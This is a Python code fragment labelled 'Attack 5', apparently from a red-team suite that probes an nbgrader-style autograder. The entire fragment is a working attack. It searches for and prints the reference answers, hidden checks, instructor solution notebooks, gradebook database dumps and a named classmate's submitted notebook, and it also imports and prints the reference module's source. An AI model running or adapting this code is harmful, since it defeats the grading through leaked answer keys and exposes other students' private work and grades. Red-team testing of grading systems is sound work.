# Attack 5: print what a student must never see: the reference answer, the hidden checks, the instructor's
# solution notebook, the gradebook, a classmate's submitted notebook. One line per file (nbgrader keeps
# only the first 1000 lines of a cell's output).
import inspect
import json

for _rt_pattern in ("autograde/reference/*.py", "autograde/checks/*.py", "solutions/kd/*.ipynb",
                    f"grading/submitted/{_RT_VICTIM}/kd/*.ipynb", f"submitted/{_RT_VICTIM}/kd/*.ipynb",
                    "grading/gradebook.db", "grading/cohort/kd/*.db"):
    for _rt_path in _rt_glob(_rt_pattern):
        try:
            if _rt_path.suffix == ".db":
                with _rt_closing(_rt_sqlite3.connect(f"file:{_rt_path}?mode=ro", uri=True)) as _rt_con:
                    _rt_text = "\n".join(list(_rt_con.iterdump())[:40])
            elif _rt_path.suffix == ".ipynb":
                _rt_text = "\n".join("".join(c["source"]) for c in json.loads(_rt_path.read_text())["cells"])
            else:
                _rt_text = _rt_path.read_text()
        except Exception as error:
            _rt_text = f"(not readable: {type(error).__name__})"
        print(f"===== {_rt_path}: {_rt_text[:30000]!r}")
try:
    import autograde.reference.kd as _rt_reference
    print(f"===== autograde.reference.kd, imported: {inspect.getsource(_rt_reference)!r}")
except Exception as error:
    print(f"redteam: autograde.reference is not importable ({type(error).__name__})")
